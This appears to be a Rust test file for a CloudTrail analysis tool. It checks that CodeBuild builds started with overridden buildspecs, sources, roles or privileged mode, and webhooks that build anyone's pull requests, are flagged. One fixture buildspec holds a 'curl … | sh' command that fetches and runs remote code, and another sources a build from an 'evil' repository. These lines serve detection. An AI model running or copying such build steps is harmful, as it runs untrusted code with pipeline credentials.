//! `CodeBuild` builds started with the project's settings overridden
//! (`analysis::identity::build`), over hand-made `StartBuild` and `StartBuildBatch` events whose
//! requests are written as the `CodeBuild` API reference documents them (`projectName`,
//! `buildspecOverride`, `sourceLocationOverride`, `sourceTypeOverride`, `imageOverride`,
//! `serviceRoleOverride`, `privilegedModeOverride`, `debugSessionEnabled`,
//! `environmentVariablesOverride`). Expected values are written down from how the events were
//! built; which starts override something is also worked out by a walk of the raw events.

use trailscope::analysis::filter::{Compiled, Filter};
use trailscope::analysis::identity::{report, Attention, AttentionKind, Severity};
use trailscope::engine::Engine;

const CI: &str = "arn:aws:sts::111111111111:assumed-role/ci/ci";
const DEV: &str = "arn:aws:iam::111111111111:user/dev";
const OUTSIDER: &str = "arn:aws:sts::999988887777:assumed-role/x/x";

/// One `CodeBuild` call of account 111111111111 in eu-west-1 by `who` with request `req`.
fn ev(n: u32, time: &str, name: &str, who: &str, req: &str, error: &str) -> String {
    let account = who.split(':').nth(4).unwrap_or("");
    let kind = if who.contains(":user/") { "IAMUser" } else { "AssumedRole" };
    format!(
        r#"{{"eventVersion":"1.08","eventTime":"2026-06-01T{time}Z","eventSource":"codebuild.amazonaws.com","eventName":"{name}",
        "eventID":"00000000-0000-4000-e000-{n:012}","awsRegion":"eu-west-1","recipientAccountId":"111111111111",
        "sourceIPAddress":"203.0.113.30","userAgent":"aws-cli/2.15.0",{error}
        "userIdentity":{{"type":"{kind}","principalId":"AIDA{n}","arn":"{who}","accountId":"{account}","accessKeyId":"AKIA{n:016}"}},
        "requestParameters":{req},"responseElements":null}}"#
    )
}

fn events() -> Vec<String> {
    let spec = r"version: 0.2\nphases:\n  build:\n    commands:\n      - docker build -t web .\n      - curl -s https://203.0.113.9/x | sh";
    vec![
        // The pipeline's own builds: no override.
        ev(1, "08:00:00", "StartBuild", CI, r#"{"projectName":"web-image","sourceVersion":"main"}"#, ""),
        // A developer's build with their own buildspec and a variable, twice.
        ev(
            2,
            "09:00:00",
            "StartBuild",
            DEV,
            &format!(
                r#"{{"projectName":"web-image","buildspecOverride":"{spec}","environmentVariablesOverride":[{{"name":"TOKEN","value":"x","type":"PLAINTEXT"}}]}}"#
            ),
            "",
        ),
        ev(
            3,
            "09:05:00",
            "StartBuild",
            DEV,
            r#"{"projectName":"web-image","buildspecOverride":"buildspec-debug.yml"}"#,
            "",
        ),
        // Another role and a debug session, by the pipeline.
        ev(
            4,
            "10:00:00",
            "StartBuildBatch",
            CI,
            r#"{"projectName":"api-image","serviceRoleOverride":"arn:aws:iam::111111111111:role/admin","debugSessionEnabled":true}"#,
            "",
        ),
        // From another account: another source, privileged.
        ev(
            5,
            "11:00:00",
            "StartBuild",
            OUTSIDER,
            r#"{"projectName":"web-image","sourceLocationOverride":"https://github.com/evil/web.git","sourceTypeOverride":"GITHUB","privilegedModeOverride":true}"#,
            "",
        ),
        // Refused: ran nothing.
        ev(
            6,
            "12:00:00",
            "StartBuild",
            DEV,
            r#"{"projectName":"api-image","imageOverride":"aws/codebuild/standard:7.0"}"#,
            r#""errorCode":"AccessDeniedException","#,
        ),
    ]
}

fn items() -> Vec<Attention> {
    let mut e = Engine::new();
    e.ingest_bytes("codebuild.jsonl", events().join("\n").as_bytes());
    let c = Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), c.rows());
    r.attention.rows.into_iter().filter(|a| a.kind == AttentionKind::BuildOverridden).collect()
}

#[test]
fn ok_a_build_started_with_overrides_is_an_item() {
    let items = items();
    let mut got: Vec<(&str, Severity, &str, u64)> =
        items.iter().map(|a| (a.title.as_str(), a.severity, a.who.as_str(), a.events)).collect();
    got.sort_unstable();
    assert_eq!(
        got,
        [
            ("Build of api-image started with another role", Severity::High, CI, 1),
            ("Build of web-image started with another buildspec", Severity::Medium, DEV, 2),
            ("Build of web-image started with another source", Severity::High, OUTSIDER, 1),
        ]
    );
    // As many (principal, project) as a walk of the raw events finds starts that went through
    // with an override.
    let raw: Vec<serde_json::Value> = events().iter().map(|e| serde_json::from_str(e).unwrap()).collect();
    let mut walked: Vec<(String, String)> = raw
        .iter()
        .filter(|e| e["errorCode"].is_null())
        .filter(|e| {
            let req = e["requestParameters"].as_object().unwrap();
            req.keys().any(|k| k.ends_with("Override") && k != "sourceVersion" || k == "debugSessionEnabled")
        })
        .map(|e| {
            (
                e["userIdentity"]["arn"].as_str().unwrap().to_owned(),
                e["requestParameters"]["projectName"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    walked.sort();
    walked.dedup();
    assert_eq!(walked.len(), items.len());
    let why = |who: &str| items.iter().find(|a| a.who == who).map(|a| a.why.clone()).unwrap_or_default();
    let dev = why(DEV);
    for part in [
        "StartBuild of CodeBuild project web-image (111111111111, eu-west-1) at 2026-06-01 09:00:00 UTC from 203.0.113.30 \
         with AWS CLI overrode, for that build only: the buildspec (it runs: docker build -t web .; curl -s \
         https://203.0.113.9/x | sh); environment variable TOKEN; the buildspec (it runs: buildspec-debug.yml).",
        "Then 1 more start of web-image by them overrode it too, the last at 2026-06-01 09:05:00 UTC.",
    ] {
        assert!(dev.contains(part), "{part}\n{dev}");
    }
    assert!(!dev.contains("\"x\"") && !dev.contains("value"), "a variable's value is never said: {dev}");
    let outsider = why(OUTSIDER);
    assert!(
        outsider.contains("the source, with https://github.com/evil/web.git GITHUB; privileged mode, on"),
        "{outsider}"
    );
    assert!(outsider.contains("The caller is of account 999988887777, not the project's."), "{outsider}");
    let ci = why(CI);
    assert!(
        ci.contains("StartBuildBatch")
            && ci.contains("the service role, with arn:aws:iam::111111111111:role/admin; session debugging, on"),
        "{ci}"
    );
}

/// Webhooks set as the `CodeBuild` API reference writes `CreateWebhook` and `UpdateWebhook`
/// (`filterGroups` of `{type, pattern, excludeMatchedPattern}`, `pullRequestBuildPolicy`): one
/// that builds pull requests from anyone is an item, until an update names the actors again.
#[test]
fn ok_a_webhook_that_builds_anyones_pull_requests_is_an_item() {
    let push = r#"[[{"type":"EVENT","pattern":"PUSH"},{"type":"HEAD_REF","pattern":"^refs/heads/main$"}]]"#;
    let prs = |actor: &str| {
        let actor = if actor.is_empty() {
            String::new()
        } else {
            format!(r#",{{"type":"ACTOR_ACCOUNT_ID","pattern":"{actor}"}}"#)
        };
        format!(r#"[[{{"type":"EVENT","pattern":"PULL_REQUEST_CREATED, PULL_REQUEST_UPDATED"}}{actor}]]"#)
    };
    let hook = |n: u32, time: &str, name: &str, project: &str, rest: &str, error: &str| {
        ev(n, time, name, CI, &format!(r#"{{"projectName":"{project}"{rest}}}"#), error)
    };
    let fg = |groups: &str| format!(r#","filterGroups":{groups}"#);
    let policy = |p: &str| {
        format!(r#","pullRequestBuildPolicy":{{"requiresCommentApproval":"{p}","approverRoles":["GITHUB_WRITE"]}}"#)
    };
    let denied = r#""errorCode":"AccessDeniedException","#;
    let lines = [
        hook(1, "08:00:00", "CreateWebhook", "web-image", &fg(push), ""),
        hook(2, "09:00:00", "UpdateWebhook", "web-image", &fg(&prs("")), ""),
        hook(3, "09:30:00", "UpdateWebhook", "web-image", &fg(&prs("123456|234567")), ""),
        hook(4, "10:00:00", "UpdateWebhook", "web-image", &fg(&prs("^(123456|234567)$")), ""),
        hook(5, "11:00:00", "CreateWebhook", "api-image", &policy("DISABLED"), ""),
        hook(6, "12:00:00", "CreateWebhook", "docs-image", &(fg(&prs("")) + &policy("FORK_PULL_REQUESTS")), ""),
        hook(7, "13:00:00", "UpdateWebhook", "lib-image", &fg(&prs("123456")), ""),
        hook(8, "14:00:00", "UpdateWebhook", "ops-image", &fg(&prs("")), denied),
    ];

    let mut e = Engine::new();
    e.ingest_bytes("webhooks.jsonl", lines.join("\n").as_bytes());
    let c = Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), c.rows());
    let items: Vec<Attention> =
        r.attention.rows.into_iter().filter(|a| a.kind == AttentionKind::BuildWebhookOpen).collect();
    let mut got: Vec<(&str, Severity)> = items.iter().map(|a| (a.title.as_str(), a.severity)).collect();
    got.sort_unstable();
    assert_eq!(
        got,
        [
            ("Webhook of api-image builds anyone's pull requests", Severity::High),
            ("Webhook of lib-image builds anyone's pull requests", Severity::Medium),
            ("Webhook of web-image builds anyone's pull requests", Severity::Medium),
        ]
    );
    let why =
        |project: &str| items.iter().find(|a| a.title.contains(project)).map(|a| a.why.clone()).unwrap_or_default();
    let web = why("web-image");
    for part in [
        "UpdateWebhook at 2026-06-01 09:00:00 UTC from 203.0.113.30 with AWS CLI set the webhook of CodeBuild project \
         web-image (111111111111, eu-west-1): filter group 1 builds pull requests (PULL_REQUEST_CREATED, \
         PULL_REQUEST_UPDATED) from anyone.",
        &format!(
            "UpdateWebhook at 2026-06-01 10:00:00 UTC by {CI} left it building only whom its filters name, 60 min later."
        ),
    ] {
        assert!(web.contains(part), "{part}\n{web}");
    }
    assert!(
        why("api-image").contains("no filter group: every push and pull request builds; comment approval: DISABLED.")
    );
    assert!(why("lib-image").contains(
        "filter group 1's ACTOR_ACCOUNT_ID pattern 123456 is not anchored (^…$): any ID that contains it matches"
    ));
}
